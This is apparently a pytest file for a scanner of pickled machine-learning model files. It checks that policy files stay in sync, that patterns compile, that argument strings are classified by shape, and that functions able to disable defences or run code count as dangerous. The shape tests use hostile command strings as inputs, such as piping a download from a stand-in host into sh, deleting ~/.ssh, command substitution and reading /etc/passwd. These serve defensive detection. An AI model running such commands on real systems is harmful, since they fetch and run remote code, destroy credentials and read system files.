"""The shipped policy: default.json must be default.toml's exact twin, and every pattern must compile."""

from __future__ import annotations

import json
import re
from importlib import resources

import pytest

from mlvet.policy import Tier, default_policy, default_policy_data


def test_json_twin_matches_toml() -> None:
    twin = json.loads(resources.files("mlvet.policy").joinpath("default.json").read_text(encoding="utf-8"))
    assert twin == default_policy_data(), "default.json is stale: run `python -m mlvet.policy`"


@pytest.mark.parametrize("stem", ["default", "semantics", "state_checks"])
def test_every_json_twin_matches_its_toml_source(stem: str) -> None:
    """The scanner reads the JSON twins (no TOML parser at start-up); they must be their sources, exactly."""
    from mlvet.policy import shipped

    assert stem in shipped.TWINNED
    twin = shipped.read_text(f"{stem}.json")
    assert json.loads(twin) == shipped.toml_data(stem), f"{stem}.json is stale: run `python -m mlvet.policy`"
    assert twin == shipped.dump(stem), f"{stem}.json is not as generated: run `python -m mlvet.policy`"
    assert shipped.data(stem) == shipped.toml_data(stem)


def test_a_missing_twin_falls_back_to_the_toml_source(monkeypatch: pytest.MonkeyPatch) -> None:
    from mlvet.policy import shipped

    real = shipped.read_text

    def no_json(name: str) -> str:
        if name.endswith(".json"):
            raise FileNotFoundError(name)
        return real(name)

    monkeypatch.setattr(shipped, "read_text", no_json)
    assert shipped.data("semantics") == shipped.toml_data("semantics") != {}


def test_every_shipped_pattern_compiles_and_has_a_reason() -> None:
    from mlvet.policy import Entry

    data = default_policy_data()
    for tier in ("safe", "dangerous"):
        for item in data[tier]:
            assert item["reason"].strip(), item
            re.compile(Entry(item["match"], item["reason"], "test").regex())


def test_semantics_table_parses_and_every_rank_is_complete() -> None:
    from mlvet.policy.semantics import Location, Shape, default_semantics, parse, semantics_data

    sem = parse(semantics_data())
    assert default_semantics().ml == sem.ml
    for loc in Location:
        for shape in Shape:
            sem.severity(loc, shape)  # every cell has a severity (or falls back to "plain")
    assert sem.locate("torch.distributed.checkpoint.metadata") is Location.ML
    assert sem.locate("textwrap") is Location.STDLIB
    assert sem.locate("__main__") is Location.MAIN
    assert sem.locate("pexpect") is Location.OTHER


def test_argument_shapes() -> None:
    from mlvet.policy.semantics import Shape, default_semantics

    sem = default_semantics()
    for text in ("curl -s http://x/a | sh", "rm -rf ~/.ssh", "bash -c 'id'", "x; wget http://y", "$(id)",
                 "cmd.exe /c whoami", "/bin/sh"):
        assert sem.text_shape(text) is Shape.COMMAND, text
    for text in ("import os", "__import__('os')", "eval(x)", "lambda x: x", "os.system('id')"):
        assert sem.text_shape(text) is Shape.CODE, text
    for text in ("/etc/passwd", "~/.bashrc", "../../x", "C:\\\\Windows"):
        assert sem.text_shape(text) is Shape.PATH, text
    for text in ("bert", "NO", "cpu", "float32", "cat", "id", "Europe/Paris", "2020-01-01", "a|b"):
        assert sem.text_shape(text) is Shape.PLAIN, text
    assert sem.argv_shape(["sh", "-c", "touch x"]) is Shape.COMMAND
    assert sem.argv_shape(["a", "b"]) is Shape.PLAIN


@pytest.mark.parametrize(
    ("module", "name"),
    [
        # the allowlist holes of issue 9: code through exec, second pickles, file writes, defence switches
        ("torch.fx.graph_module", "reduce_graph_module"),
        ("torch.fx.graph_module", "reduce_deploy_graph_module"),
        ("torch.fx.graph_module", "reduce_package_graph_module"),
        ("numpy.lib._npyio_impl", "load"),
        ("numpy.lib._format_impl", "read_array"),
        ("pandas", "ExcelWriter"),
        ("fickling.hook", "remove_hook"),
        ("fickling", "deactivate_safe_ml_environment"),
        ("mlvet.guard", "uninstall"),
        ("torch.serialization", "add_safe_globals"),
        ("keras.config", "enable_unsafe_deserialization"),
        ("torch.distributed", "init_process_group"),
        ("torch.distributed.rpc", "rpc_sync"),
        ("torch.distributed.checkpoint.filesystem", "FileSystemReader"),
    ],
)
def test_holes_are_dangerous(module: str, name: str) -> None:
    assert default_policy().classify(module, name).tier is Tier.DANGEROUS


@pytest.mark.parametrize(
    "name", ["Metadata", "TensorStorageMetadata", "TensorProperties", "_MEM_FORMAT_ENCODING", "MetadataIndex"]
)
def test_dcp_dataclasses_are_not_dangerous(name: str) -> None:
    assert default_policy().classify("torch.distributed.checkpoint.metadata", name).tier is not Tier.DANGEROUS


def test_safe_tier_calls_with_a_mode_or_download_are_argument_aware() -> None:
    """Safe-tier names whose call takes a path and a mode are covered by a mode or call-effect rule."""
    from mlvet.policy.semantics import default_semantics

    sem = default_semantics()
    for qualified in ("numpy:memmap", "scipy.io:FortranFile", "pandas:HDFStore"):
        tier = default_policy().classify(*qualified.split(":")).tier
        # Either dangerous outright (file handles are never part of a pickled object) or argument-aware.
        assert tier is Tier.DANGEROUS or (tier is Tier.SAFE and sem.mode_rule(qualified) is not None), qualified
    assert sem.call_effect("torchvision.datasets.mnist:MNIST") is not None
